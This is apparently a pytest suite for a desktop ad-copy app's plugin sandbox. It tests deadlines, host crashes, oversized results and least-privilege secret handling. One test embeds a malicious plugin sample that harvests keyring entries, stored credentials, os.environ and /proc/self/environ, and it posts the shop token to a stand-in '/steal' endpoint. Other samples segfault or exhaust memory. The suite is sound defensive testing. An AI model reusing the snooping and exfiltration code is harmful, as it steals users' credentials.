"""Third-party plugins that hang, crash or snoop cannot hurt the user: deadlines, plugin hosts,
least privilege, garbage results. Every plugin here is a real wheel built from a source tree in
tmp_path and installed into the plugin folder, so it runs in a plugin host like a user's would."""

import os
import time

import pytest

from adcopy_desktop.core.candidates import Candidate, GenerationSettings
from adcopy_desktop.core.generation import CopyGenerator
from adcopy_desktop.core.plugins import ACTIVE, FAILED, Score, Scorer, hookimpl
from adcopy_desktop.core.plugins.testing import scripted_backend
from adcopy_desktop.core.plugins.wheels import install_wheel
from adcopy_desktop.core.product import parse_product
from adcopy_desktop.core.prompts import CopyRequest

from .helpers import build_wheel, unique, wheel_from_source

REQUEST = CopyRequest(parse_product("Type: green tea\nOrigin: mountain"), "title", language="en")

SLEEPY_SCORER = '''
import time
from adcopy_desktop.core.plugins import Score, Scorer, hookimpl

def sleep_forever(candidate, context):
    time.sleep(3600)
    return Score(1.0)

@hookimpl
def register_scorers(register):
    register(Scorer(name="sleepy", score=sleep_forever))
'''

CRASHING_HOOK = '''
import os
from adcopy_desktop.core.plugins import hookimpl

@hookimpl
def process_candidate(candidate):
    os._exit(3)
'''


def status(manager, name):
    return next(info for info in manager.plugins() if info.name == name)


def installed(tmp_path, plugins_dir, dist_name, code, version="1.0"):
    wheel = wheel_from_source(tmp_path, dist_name, {"plugin": code}, version=version)
    install_wheel(wheel, plugins_dir)
    return wheel


def generate(manager, n=3):
    generator = CopyGenerator(plugins=manager, backend="scripted")
    return generator.generate(REQUEST, GenerationSettings(n=n, seed=1))


def test_a_scorer_that_sleeps_for_an_hour_is_abandoned_at_its_deadline(tmp_path, plugins_dir, make_manager):
    installed(tmp_path, plugins_dir, "adcopy-scorer-sleepy", SLEEPY_SCORER, version="2.1")
    manager = make_manager(deadlines={"scorer": 1.0})
    manager.add_plugin(scripted_backend([["Green tea one", "Green tea two", "Green tea three"]]),
                       name="test.scripted")
    assert status(manager, "adcopy-scorer-sleepy").runs_in == "plugin host"
    assert "sleepy" in manager.scorers()

    started = time.perf_counter()
    candidates = generate(manager)
    elapsed = time.perf_counter() - started

    assert elapsed < 1.0 + 1.0, f"generation took {elapsed:.2f} s"
    assert len(candidates) == 3
    scored = {entry["scorer"] for entry in candidates[0].scores}
    assert "sleepy" not in scored and "faithfulness" in scored  # the other plugins' results arrived
    [problem] = manager.problems
    assert (problem.name, problem.version, problem.source, problem.hook) == (
        "adcopy-scorer-sleepy", "2.1", "plugin folder", "scorer 'sleepy'")
    assert "did not answer within 1 s" in problem.error and "plugin_deadlines.scorer" in problem.error
    assert status(manager, "adcopy-scorer-sleepy").status == FAILED
    assert "sleepy" not in manager.scorers()


def test_an_in_process_plugin_past_its_deadline_is_abandoned_too(make_manager):
    class Sleepy:
        @hookimpl
        def adjust_prompt(self, messages):
            time.sleep(3600)

        @hookimpl
        def register_scorers(self, register):
            register(Scorer(name="slow", score=lambda c, ctx: time.sleep(3600)))

    manager = make_manager(deadlines={"hook": 0.3, "scorer": 0.3})
    manager.add_plugin(Sleepy(), name="sleepy-in-process", version="0.1")
    manager.add_plugin(scripted_backend([["Green tea"]]), name="test.scripted")
    started = time.perf_counter()
    [candidate] = generate(manager, n=1)
    assert time.perf_counter() - started < 0.3 + 1.0
    [problem] = manager.problems
    assert problem.hook == "adjust_prompt" and "did not answer within 0.3 s" in problem.error
    assert candidate.text and status(manager, "sleepy-in-process").status == FAILED


def test_a_hook_that_kills_its_host_is_reported_restarted_once_then_disabled(tmp_path, plugins_dir, make_manager):
    installed(tmp_path, plugins_dir, "adcopy-crasher", CRASHING_HOOK)
    manager = make_manager()
    manager.add_plugin(scripted_backend([["Green tea one", "Green tea two", "Green tea three"]]),
                       name="test.scripted")
    candidates = generate(manager)
    assert [c.text for c in candidates] == ["Green tea one", "Green tea two", "Green tea three"]
    first, second = manager.problems
    assert (first.name, first.hook, first.disabled) == ("adcopy-crasher", "process_candidate", False)
    assert "its plugin host died (exit code 3); it is started again" in first.error
    assert second.disabled and "died (exit code 3)" in second.error
    assert status(manager, "adcopy-crasher").status == FAILED
    assert os.getpid()  # and we are still here


def test_a_host_that_segfaults_or_runs_out_of_memory_never_takes_the_app_down(tmp_path, plugins_dir, make_manager,
                                                                              monkeypatch):
    monkeypatch.setenv("ADCOPY_PLUGIN_HOST_MEMORY_MB", "1024")
    crashes = '''
import ctypes
from adcopy_desktop.core.plugins import Score, Scorer, hookimpl

def segfault(candidate, context):
    ctypes.string_at(0)

def greedy(candidate, context):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))

@hookimpl
def register_scorers(register):
    register(Scorer(name="segfault", score=segfault))
    register(Scorer(name="greedy", score=greedy))
'''
    installed(tmp_path, plugins_dir, "adcopy-crashes", crashes)
    manager = make_manager()
    candidate = Candidate(text="Green tea", kind="title", model="m", language="en")
    assert "segfault" not in manager.score(candidate, scorers=["segfault"])
    [problem] = manager.problems
    assert "killed by SIGSEGV" in problem.error and not problem.disabled
    assert "greedy" not in manager.score(candidate, scorers=["greedy"])  # the restarted host
    assert "MemoryError" in manager.problems[-1].error
    assert status(manager, "adcopy-crashes").status == FAILED


@pytest.mark.parametrize(
    ("code", "hook", "message"),
    [
        ("register_scorers", "scorer 'garbage'", "returned NoneType None, not a Score"),
        ("nan", "scorer 'garbage'", "(the value is nan)"),
        ("spans", "scorer 'garbage'", "with 100000 spans; at most 1000 are accepted"),
        ("flags", "process_candidate", "with 20000 flags; at most 1000 are accepted"),
        ("messages", "adjust_prompt", "5000 messages; at most 100 are accepted"),
        ("huge", "scorer 'garbage'", "stopped (it sent a message of 2.1 MB; at most 1 MB is accepted)"),
    ],
)
def test_garbage_from_a_plugin_host_is_rejected_with_a_message(tmp_path, plugins_dir, make_manager, monkeypatch,
                                                               code, hook, message):
    from adcopy_desktop.core.plugins import protocol

    if code == "huge":
        monkeypatch.setattr(protocol, "MAX_FRAME_BYTES", 1_000_000)
    bodies = {
        "register_scorers": "return None",
        "nan": "return Score(float('nan'))",
        "spans": "return Score(0.5, spans=[ScoreSpan(0, 1)] * 100_000)",
        "huge": "return Score(0.5, explanation='x' * 2_100_000)",
    }
    package = unique("adcopy_garbage")
    plugin = f'''
from adcopy_desktop.core.plugins import Score, Scorer, ScoreSpan, hookimpl

def garbage(candidate, context):
    {bodies.get(code, "return 0.5")}

@hookimpl
def register_scorers(register):
    register(Scorer(name="garbage", score=garbage))

@hookimpl
def process_candidate(candidate):
    if {code == "flags"}:
        candidate.flags.extend({{"rule": "x"}} for _ in range(20_000))
    return candidate

@hookimpl
def adjust_prompt(messages):
    if {code == "messages"}:
        return messages + [{{"role": "user", "content": "more"}}] * 4998
    return None
'''
    wheel, _ = build_wheel(tmp_path, "adcopy-garbage", files={f"{package}/__init__.py": "",
                                                             f"{package}/plugin.py": plugin},
                           entry_points=f"[adcopy]\nmain = {package}.plugin\n")
    install_wheel(wheel, plugins_dir)
    manager = make_manager()
    manager.add_plugin(scripted_backend([["Green tea"]]), name="test.scripted")
    [candidate] = generate(manager, n=1)
    assert candidate.text.startswith("Green tea")
    problems = [p for p in manager.problems if p.name == "adcopy-garbage"]
    assert problems, manager.problems
    assert problems[0].hook == hook and message in problems[0].error, problems[0].error


def test_a_plugin_reading_the_keyring_gets_nothing_and_its_shop_requests_carry_the_key(
        tmp_path, plugins_dir, make_manager, memory_keyring, monkeypatch, capfd):
    """The host has no keyring and no secret in its environment; the shop target holds a
    placeholder, and the app puts the real token only into requests to that shop."""
    from adcopy_desktop.core.secrets import load_credentials, store_credentials
    from adcopy_desktop.core.shops import OutgoingItem, ShopError
    from tests.keyrings import MemoryKeyring, env_value
    from tests.shop_servers import FakeShopify

    token = "shpat_" + "planted" + "9c1e2f4a7b"
    shop = FakeShopify(token=token)
    shop.reset(["green-tea"])
    store_credentials("snoop-shop", shop.url, {"token": token})
    # a child that inherited the app's environment would find the token here
    leaked = MemoryKeyring()
    leaked.set_password("adcopy", f"snoop-shop|{shop.url}|token", token)
    monkeypatch.setenv("ADCOPY_TEST_KEYRING", env_value(leaked))
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "tests.keyrings.EnvKeyring")
    monkeypatch.setenv("SHOP_ACCESS_TOKEN", token)
    seen = tmp_path / "seen-by-plugin.txt"
    snoop = f'''
import json, os, sys
from adcopy_desktop.core.plugins import Exporter, Score, Scorer, hookimpl
from adcopy_desktop.core.shops import ItemResult

SEEN = {str(seen)!r}

def note(where, value):
    with open(SEEN, "a", encoding="utf-8") as stream:
        stream.write(f"{{where}}: {{value!r}}\\n")
    print(where, value)
    print(where, value, file=sys.stderr)

def snoop(where):
    try:
        import keyring
        note(where + " keyring", keyring.get_password("adcopy", "snoop-shop|{shop.url}|token"))
    except Exception as error:
        note(where + " keyring error", error)
    try:
        from tests.keyrings import EnvKeyring
        note(where + " env keyring", EnvKeyring().get_password("adcopy", "snoop-shop|{shop.url}|token"))
    except Exception as error:
        note(where + " env keyring error", error)
    try:
        from adcopy_desktop.core.secrets import load_credentials
        note(where + " secrets", load_credentials("snoop-shop", "{shop.url}", ("token",)))
    except Exception as error:
        note(where + " secrets error", error)
    note(where + " environ", dict(os.environ))
    try:
        with open("/proc/self/environ", "rb") as stream:
            note(where + " proc environ", stream.read())
    except OSError:
        pass

snoop("import")

class Client:
    batch_size = 1

    def __init__(self, url, token):
        self.destination, self.token = url, token

    def send(self, items):
        from adcopy_desktop.core.shops.http import request_json
        snoop("send")
        note("send token", self.token)
        results = []
        for item in items:
            where = "http://127.0.0.1:1/steal" if item.external_key == "leak" else self.destination
            answer = request_json("POST", where + "/admin/api/2025-07/graphql.json",
                                  headers={{"X-Shopify-Access-Token": self.token}},
                                  body={{"query": "query($identifier: ProductIdentifierInput!) "
                                                  "{{ productByIdentifier(identifier: $identifier) {{ id }} }}",
                                        "variables": {{"identifier": {{"handle": item.external_key}}}}}})
            note("send answer", answer.body)
            found = answer.body["data"]["productByIdentifier"]
            results.append(ItemResult(item.id, "done", remote_id=found["id"]))
        return results

def connect(options, credentials):
    snoop("connect")
    note("connect credentials", credentials)
    return Client(options["shop_url"], credentials["token"])

@hookimpl
def register_exporters(register):
    register(Exporter(name="snoop-shop", credentials=("token",), connect=connect,
                      settings_schema={{"shop_url": {{"type": "string", "default": ""}}}}))

@hookimpl
def register_scorers(register):
    def score(candidate, context):
        snoop("scorer")
        return Score(0.5)
    register(Scorer(name="snoop", score=score))
'''
    installed(tmp_path, plugins_dir, "adcopy-snoop", snoop)
    manager = make_manager()
    try:
        assert status(manager, "adcopy-snoop").status == ACTIVE, manager.problems
        candidate = Candidate(text="Green tea", kind="title", model="m", language="en")
        assert manager.score(candidate, scorers=["snoop"])["snoop"].value == 0.5
        credentials = load_credentials("snoop-shop", shop.url, ("token",))
        client = manager.connect_shop("snoop-shop", {"shop_url": shop.url}, credentials)
        [result] = client.send([OutgoingItem(id=1, external_key="green-tea", payload={"title": "Tea"})])
        assert (result.status, result.remote_id) == ("done", "gid://shopify/Product/1000")
        # the shop saw the real token, from the app
        assert shop.requests[-1]["headers"]["X-Shopify-Access-Token"] == token
        # a request elsewhere with the placeholder is refused, and the plugin goes on
        with pytest.raises(ShopError, match="only to that shop, not to 127.0.0.1:1"):
            client.send([OutgoingItem(id=2, external_key="leak", payload={"title": "Tea"})])
    finally:
        manager.close()
        shop.close()
    observed = seen.read_text(encoding="utf-8")
    assert "import keyring" in observed and "send token: 'adcopy-secret-token-" in observed
    assert token not in observed
    out, err = capfd.readouterr()
    assert token not in out and token not in err
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert token.encode() not in path.read_bytes(), f"the token is in {path}"


def test_the_host_environment_keeps_no_secret():
    from adcopy_desktop.core.plugins.remote import host_environment

    env = host_environment({"PATH": "/bin", "HOME": "/home/u", "SHOPIFY_TOKEN": "x", "AWS_SECRET_ACCESS_KEY": "y",
                            "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/bus", "ADCOPY_TEST_KEYRING": "[]",
                            "LC_ALL": "C", "HTTPS_PROXY": "http://user:pw@proxy:3128", "ADCOPY_HOME": "/h"})
    assert {"PATH", "HOME", "LC_ALL", "ADCOPY_HOME", "PYTHONPATH"} <= set(env)
    assert not {"SHOPIFY_TOKEN", "AWS_SECRET_ACCESS_KEY", "DBUS_SESSION_BUS_ADDRESS", "ADCOPY_TEST_KEYRING",
                "HTTPS_PROXY"} & set(env)
    assert env["PYTHON_KEYRING_BACKEND"] == "keyring.backends.fail.Keyring"


def test_a_remote_plugin_behaves_like_an_in_process_one(tmp_path, plugins_dir, make_manager):
    """Hooks, chains, events, importers and backends through the host give what they give in process."""
    code = '''
from adcopy_desktop.core.plugins import Backend, Importer, Score, Scorer, hookimpl
from adcopy_desktop.core.product import Product

SEEN = []

class Echo:
    provider = "echo"
    special_tokens = ()

    def generate(self, messages, settings, *, cancel=None, on_token=None):
        from adcopy_desktop.core.plugins.testing import FakeCompletion, FakeTokenEvent
        out = []
        for i in range(settings.n):
            text = f"echo {i}"
            if on_token is not None:
                on_token(FakeTokenEvent(index=i, token_id=0, text=text))
            out.append(FakeCompletion(index=i, text=text))
        return out

def read(path, options, context):
    context.progress(__import__("adcopy_desktop.core.progress", fromlist=["x"]).ProgressEvent("read", "reading", 0.5))
    return [Product.from_attributes([("name", line)]) for line in path.read_text().splitlines()]

@hookimpl
def register_backends(register):
    register(Backend(name="echo", load=lambda context: Echo(), uses_model_store=False))

@hookimpl
def register_importers(register):
    register(Importer(name="lines", extensions=(".lines",), read=read, takes_context=True))

@hookimpl
def register_scorers(register):
    register(Scorer(name="length", score=lambda c, ctx: Score(min(1.0, len(c.text) / 10), "ok", ctx.request.kind)))

@hookimpl(tryfirst=True)
def process_candidate(candidate, style):
    candidate.flags.append({"rule": "remote", "severity": "info"})
    candidate.text = candidate.text.upper()
    return candidate

@hookimpl
def adjust_prompt(messages, language):
    messages[0]["content"] += f"\\nREMOTE {language}"

@hookimpl
def candidate_accepted(candidate):
    SEEN.append(candidate.text)
'''
    installed(tmp_path, plugins_dir, "adcopy-remote-all", code)
    manager = make_manager()
    assert manager.problems == []
    tokens = []
    generator = CopyGenerator(plugins=manager, backend="echo")
    candidates = generator.generate(REQUEST, GenerationSettings(n=2), on_token=lambda i, text: tokens.append(text))
    assert [c.text for c in candidates] == ["ECHO 0", "ECHO 1"]
    assert {"rule": "remote", "severity": "info"} in candidates[0].flags
    assert tokens == ["echo 0", "echo 1"]
    scores = manager.score(candidates[0], request=REQUEST)
    assert (scores["length"].value, scores["length"].explanation) == (0.6, "title")
    messages = manager.adjust_prompt([{"role": "system", "content": "S"}, {"role": "user", "content": "U"}],
                                     request=REQUEST, style=None, language="en")
    assert messages[0]["content"].endswith("REMOTE en")
    source = tmp_path / "products.lines"
    source.write_text("tea\nmug\n")
    progress = []
    result = manager.import_catalog(source, progress=progress.append)
    assert [p.name for p in result.products] == ["tea", "mug"] and progress[0].fraction == 0.5
    manager.candidate_accepted(candidates[0])
    assert manager.problems == []


HANGING_SHOP = '''
from adcopy_desktop.core.plugins import Exporter, hookimpl
from adcopy_desktop.core.shops import ItemResult


class Client:
    batch_size = 5

    def __init__(self, url, token):
        self.destination, self.token = url, token

    def send(self, items):
        from adcopy_desktop.core.shops.http import request_json
        # the shop accepts the connection and never answers; the plugin is willing to wait an hour
        request_json("POST", self.destination + "/api/products", headers={"Authorization": self.token},
                     body=[item.payload for item in items], timeout=3600)
        return [ItemResult(item.id, "done") for item in items]


@hookimpl
def register_exporters(register):
    register(Exporter(name="hanging-shop", credentials=("token",),
                      connect=lambda options, credentials: Client(options["shop_url"], credentials["token"]),
                      settings_schema={"shop_url": {"type": "string", "default": ""}}))
'''


def test_a_shop_request_that_never_gets_an_answer_ends_at_the_deadline_and_the_outbox_keeps_the_item(
        tmp_path, plugins_dir, make_manager, memory_keyring):
    """The request goes through the app (it adds the key); the app's wait on it is under the call's
    deadline too, so a shop on 127.0.0.1 that never answers cannot hold the export."""
    import socket

    from adcopy_desktop.core.errors import PluginError
    from adcopy_desktop.core.export import export_to_shop
    from adcopy_desktop.core.library import Library
    from adcopy_desktop.core.outbox import Outbox, RetryPolicy
    from adcopy_desktop.core.secrets import store_credentials
    from tests.core.shops.helpers import add_product_with_copy

    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(8)  # connections complete in the backlog; nothing ever reads or answers them
    url = f"http://127.0.0.1:{silent.getsockname()[1]}"
    installed(tmp_path, plugins_dir, "adcopy-shop-hanging", HANGING_SHOP, version="0.4")
    manager = make_manager(deadlines={"shop": 1.0})
    store_credentials("hanging-shop", url, {"token": "hs_token_1"})
    try:
        with Library(tmp_path / "library.sqlite3") as library:
            add_product_with_copy(library, "tea", "tea-1", {"title": "Green tea"})
            started = time.perf_counter()
            with pytest.raises(PluginError) as raised:
                export_to_shop(library, manager, "hanging-shop", options={"shop_url": url},
                               policy=RetryPolicy(base_s=0.001))
            elapsed = time.perf_counter() - started
            outbox = Outbox(library)
            [job] = outbox.unfinished_jobs("hanging-shop", url)
            [item] = outbox.items(job.id, ("pending", "sent"))
    finally:
        silent.close()
    assert elapsed < 1.0 + 1.0, f"the export took {elapsed:.2f} s"
    assert "did not answer within 1 s" in str(raised.value) and "disabled for this session" in str(raised.value)
    [problem] = manager.problems
    assert (problem.name, problem.version, problem.source, problem.hook, problem.disabled) == (
        "adcopy-shop-hanging", "0.4", "plugin folder", "exporter 'hanging-shop' send", True)
    assert status(manager, "adcopy-shop-hanging").status == FAILED
    assert "hanging-shop" not in manager.exporters()
    assert item.external_key == "tea-1" and "did not answer within 1 s" in item.last_error


def test_an_in_process_shop_client_that_hangs_ends_at_the_deadline_too(tmp_path, make_manager, memory_keyring):
    import threading

    from adcopy_desktop.core.errors import PluginError
    from adcopy_desktop.core.export import export_to_shop
    from adcopy_desktop.core.library import Library
    from adcopy_desktop.core.outbox import Outbox
    from adcopy_desktop.core.plugins import Exporter
    from adcopy_desktop.core.secrets import store_credentials
    from tests.core.shops.helpers import add_product_with_copy

    never = threading.Event()

    class Client:
        batch_size = 1

        def send(self, items):
            never.wait(3600)

    class Plugin:
        @hookimpl
        def register_exporters(self, register):
            register(Exporter(name="stuck", credentials=("token",), connect=lambda options, credentials: Client(),
                              settings_schema={"shop_url": {"type": "string", "default": ""}}))

    manager = make_manager(deadlines={"shop": 0.3})
    manager.add_plugin(Plugin(), name="stuck-shop", version="1.0")
    store_credentials("stuck", "https://stuck.example", {"token": "t"})
    try:
        with Library(tmp_path / "library.sqlite3") as library:
            add_product_with_copy(library, "tea", "tea-1", {"title": "Green tea"})
            started = time.perf_counter()
            with pytest.raises(PluginError, match="did not answer within 0.3 s"):
                export_to_shop(library, manager, "stuck", options={"shop_url": "https://stuck.example"})
            assert time.perf_counter() - started < 0.3 + 1.0
            [job] = Outbox(library).unfinished_jobs("stuck", "https://stuck.example")
            assert len(Outbox(library).items(job.id, ("pending", "sent"))) == 1
    finally:
        never.set()
    assert manager.problems[0].hook == "exporter 'stuck' send"
    assert status(manager, "stuck-shop").status == FAILED


def test_objects_from_a_restarted_host_are_made_again_on_their_next_call(tmp_path, plugins_dir, make_manager,
                                                                         memory_keyring):
    """A loaded backend and a shop client live in the host; the host dies on their first call and
    is started again: the next call loads the backend (connects the client) again in the new host."""
    from adcopy_desktop.core.errors import PluginError
    from adcopy_desktop.core.shops import OutgoingItem

    first_time = tmp_path / "died-once"
    code = f'''
import os
from pathlib import Path
from adcopy_desktop.core.plugins import Backend, Exporter, hookimpl
from adcopy_desktop.core.shops import ItemResult

DIED = Path({str(first_time)!r})
LOADS = []

def die_the_first_time(what):
    marker = DIED.with_name(DIED.name + "-" + what)
    if not marker.exists():
        marker.write_text("x")
        os._exit(3)

class Flaky:
    provider = "flaky"
    special_tokens = ()

    def __init__(self, options):
        LOADS.append(options)
        self.options = options

    def generate(self, messages, settings, *, cancel=None, on_token=None):
        from adcopy_desktop.core.plugins.testing import FakeCompletion
        die_the_first_time("generate")
        return [FakeCompletion(index=i, text=f"flaky {{i}} after {{len(LOADS)}} load(s) {{self.options}}")
                for i in range(settings.n)]

class Client:
    batch_size = 1

    def __init__(self, token):
        self.token = token

    def send(self, items):
        die_the_first_time("send")
        return [ItemResult(item.id, "done", remote_id=self.token[:14]) for item in items]

@hookimpl
def register_backends(register):
    register(Backend(name="flaky", load=lambda context: Flaky(dict(context.options)), uses_model_store=False,
                     settings_schema={{"colour": {{"type": "string", "default": "green"}}}}))

@hookimpl
def register_exporters(register):
    register(Exporter(name="flaky-shop", credentials=("token",),
                      connect=lambda options, credentials: Client(credentials["token"]),
                      settings_schema={{"shop_url": {{"type": "string", "default": ""}}}}))
'''
    installed(tmp_path, plugins_dir, "adcopy-flaky", code)
    manager = make_manager()
    generator = CopyGenerator(plugins=manager, backend="flaky", backend_options={"colour": "red"})
    with pytest.raises(PluginError, match=r"died \(exit code 3\); it is started again"):
        generator.generate(REQUEST, GenerationSettings(n=2, seed=1))
    candidates = generator.generate(REQUEST, GenerationSettings(n=2, seed=1))
    assert [c.text for c in candidates] == ["flaky 0 after 1 load(s) {'colour': 'red'}",
                                            "flaky 1 after 1 load(s) {'colour': 'red'}"]
    [problem] = manager.problems
    assert not problem.disabled and problem.hook == "backend 'flaky' generate"
    assert status(manager, "adcopy-flaky").status == ACTIVE

    # the host is now on its one restart: a shop client it made works after that one's death too
    manager.close()
    manager = make_manager()
    client = manager.connect_shop("flaky-shop", {"shop_url": "https://flaky.example"}, {"token": "real-token"})
    item = OutgoingItem(id=1, external_key="tea", payload={"title": "Tea"})
    with pytest.raises(PluginError, match=r"died \(exit code 3\)"):
        client.send([item])
    [result] = client.send([item])
    assert (result.status, result.remote_id) == ("done", "adcopy-secret-")  # a placeholder, still sealed
    assert status(manager, "adcopy-flaky").status == ACTIVE
